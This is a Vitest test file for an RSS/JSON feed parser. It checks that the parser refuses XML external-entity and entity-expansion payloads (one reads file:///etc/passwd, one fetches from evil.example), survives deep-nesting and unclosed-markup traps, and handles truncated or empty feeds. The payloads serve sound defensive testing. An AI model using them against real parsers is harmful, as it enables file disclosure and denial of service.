// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { feedSource } from '../../../../src/publish/sources/feed/feed-source';

const changedAt = '2026-01-01T00:00:00Z';

function read(text: string) {
  return feedSource.parse({ text, changedAt });
}

function rss(items: string): string {
  return `<?xml version="1.0"?>\n<rss version="2.0"><channel><title>T</title>${items}</channel></rss>`;
}

function titlesOf(outcome: ReturnType<typeof read>): readonly string[] {
  return outcome.ok ? outcome.value.posts.map(({ post }) => post.title) : [JSON.stringify(outcome.fault)];
}

describe('feeds that are made to hurt', () => {
  it.each([
    ['entities that blow up', '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'],
    ['entities that fetch files', '<!DOCTYPE r [\n<!ENTITY x SYSTEM "file:///etc/passwd">\n]>'],
    ['parameter entities', '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>'],
  ])('are refused: %s', (_what, doctype) => {
    const outcome = read(rss('<item><title>&x;&b;</title></item>').replace('<rss', `${doctype}<rss`));
    expect(outcome).toMatchObject({
      ok: false,
      fault: { code: 'hostile-source', detail: expect.stringContaining('entities') },
    });
  });

  it.each(['x', 'div', 'item2', 'b:c'])('are refused: 100,000 nested <%s>', (name) => {
    const nested = `<${name}>`.repeat(100_000);
    expect(read(rss(`<item><title>a</title>${nested}</item>`))).toMatchObject({ fault: { code: 'hostile-source' } });
    expect(read(rss(nested))).toMatchObject({ fault: { code: 'hostile-source' } });
  });

  it('keep their words when the nesting is in HTML', () => {
    const html = `${'<div>'.repeat(100_000)}deep${'</div>'.repeat(100_000)}`;
    const outcome = read(rss(`<item><title>a</title><description><![CDATA[${html}]]></description></item>`));
    expect(JSON.stringify(outcome)).toContain('deep');
  });

  it.each([
    ['lone angle brackets', '<'.repeat(50_000)],
    ['quotes that nothing closes', '<a "'.repeat(50_000)],
    ['tags that nothing closes', '<a b '.repeat(50_000)],
    ['end tags that nothing opens', '</p>'.repeat(50_000)],
    ['ampersands', '&amp'.repeat(50_000)],
    ['comments in comments', '<!--'.repeat(50_000)],
    ['CDATA in CDATA', '<![CDATA['.repeat(100_000)],
    ['declarations', '<!a[]'.repeat(100_000)],
    ['instructions', '<?a '.repeat(100_000)],
    ['white space', ' \n'.repeat(50_000)],
    ['names that objects have', '<__proto__>a</__proto__><constructor>b</constructor>'.repeat(1000)],
    ['attributes without values', `<a ${'b '.repeat(50_000)}>`],
  ])('are read in about a second: %s', (_what, trap) => {
    const start = performance.now();
    read(rss(`<item><title>${trap}</title><description>${trap}</description></item>`));
    read(rss(`<item><title>a</title><description><![CDATA[${trap.replaceAll(']]>', '')}]]></description></item>`));
    read(`<rss ${trap}>`);
    expect(performance.now() - start).toBeLessThan(4000);
  });

  it('never make an entry of a prototype', () => {
    const outcome = read(
      rss('<item><title>a</title><__proto__><title>b</title></__proto__></item><item><title>c</title></item>'),
    );
    expect(titlesOf(outcome)).toContain('c');
  });
});

describe('feeds that are broken', () => {
  const items = '<item><title>one</title></item>\n<item><title>two</title></item>';

  it('give the whole entries before a cut, and say where it is', () => {
    const text = rss(`${items}\n<item><title>thr`);
    const outcome = read(text.slice(0, text.indexOf('thr') + 3));
    expect(titlesOf(outcome)).toEqual(['one', 'two']);
    expect(outcome.ok && outcome.value.notes).toEqual([
      'it ends at line 4 inside <title>, before that is closed: the entry there was left out, and the 2 before it kept',
    ]);
  });

  it('are malformed when the cut comes before any entry', () => {
    expect(read('<?xml version="1.0"?>\n<rss version="2.0"><channel>\n<item><title>a')).toEqual({
      ok: false,
      fault: {
        code: 'malformed-source',
        format: 'RSS',
        detail: 'it ends at line 3 inside <title>, before that is closed.',
      },
    });
    expect(read('{"version": "https://jsonfeed.org/version/1.1", "items": [')).toMatchObject({
      fault: { code: 'malformed-source' },
    });
  });

  it('have entries that are refused by name when there is nothing in them', () => {
    const outcome = read(rss(`${items}<item></item><item><link>https://a.example/</link></item>`));
    expect(outcome.ok && outcome.value.refused.map(({ name, fault }) => [name, fault.code])).toEqual([
      ['entry 3 of T', 'empty-source'],
      ['https://a.example/', 'empty-source'],
    ]);
  });

  it('are empty without entries', () => {
    expect(read(rss(''))).toEqual({ ok: false, fault: { code: 'empty-source', format: 'RSS' } });
    expect(read('{"version":"https://jsonfeed.org/version/1.1","title":"T","items":[]}')).toMatchObject({
      fault: { code: 'empty-source' },
    });
  });

  it('have entries that come twice', () => {
    const twice = '<item><guid>https://a.example/1</guid><title>one</title></item>';
    const outcome = read(rss(twice + twice));
    expect(titlesOf(outcome)).toEqual(['one']);
    expect(outcome.ok && outcome.value.notes).toEqual(['1 entry that came more than once was taken once']);
  });

  it.each([
    ['a byte order mark and blank lines', '\uFEFF\n\n'],
    ['a warning of PHP', '<br />\n<b>Warning</b>: Undefined variable in <b>/x.php</b> on line <b>3</b><br />\n'],
    ['a comment', '<!-- made by hand -->\n'],
  ])('may begin with %s', (_what, before) => {
    const text = before + rss(items).replace(/^<\?xml.*\n/u, before.startsWith('<!') ? '' : '$&');
    expect(feedSource.detect({ text, changedAt })).toBe(true);
    expect(titlesOf(read(text))).toEqual(['one', 'two']);
  });

  it('may have control characters and references that nobody knows', () => {
    expect(titlesOf(read(rss('<item><title>a\u0001b\u000B &hellip;&unknown; c</title></item>')))).toEqual([
      'ab …&unknown; c',
    ]);
  });
});

it.each([
  '# Feeds\n\n```xml\n<rss version="2.0">\n```',
  '<html><body><rss></rss></body></html>',
  '{"title": "jsonfeed.org/version/1"}',
  '',
  '<',
])('is no feed: %j', (text) => {
  expect(feedSource.detect({ text, changedAt })).toBe(false);
  expect(feedSource.parse({ text, changedAt }).ok).toBe(false);
});
